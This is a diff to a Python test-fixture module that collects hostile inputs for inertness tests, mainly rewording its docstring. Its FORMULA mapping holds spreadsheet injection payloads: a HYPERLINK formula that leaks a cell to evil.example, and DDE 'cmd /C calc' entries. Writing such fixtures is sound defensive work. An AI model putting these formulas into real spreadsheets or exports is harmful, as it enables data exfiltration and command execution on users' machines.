@@ -1,8 +1,7 @@
-"""One corpus of hostile texts, for every test that asks "is this inert?" (A43, A44, A45, I16).
+"""A corpus of hostile texts, for tests that check that text stays inert (A43, A44, A45, I16).
 
-Each text is named, so that a failing case says what it was. HOSTILE can be stored in PostgreSQL as it is;
-UNSTORABLE holds what a text column cannot take (NUL) or UTF-8 cannot carry (lone surrogates): inputs must
-refuse it.
+Each text has a name, so that a failing case is easy to identify. HOSTILE can be stored in PostgreSQL;
+UNSTORABLE contains what a text column (NUL) or UTF-8 (lone surrogates) cannot hold: inputs must refuse it.
 """
 
 from collections.abc import Mapping
@@ -20,7 +19,7 @@ SCRIPT: Mapping[str, str] = {
 }
 
 FORMULA: Mapping[str, str] = {
-    "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "equals": '=HYPERLINK("http://evil.example/?"&A01,"open")',
     "equals_short": "=1",
     "plus": "+cmd|' /C calc'!A0",
     "minus": "-2+3+cmd|' /C calc'!A0",
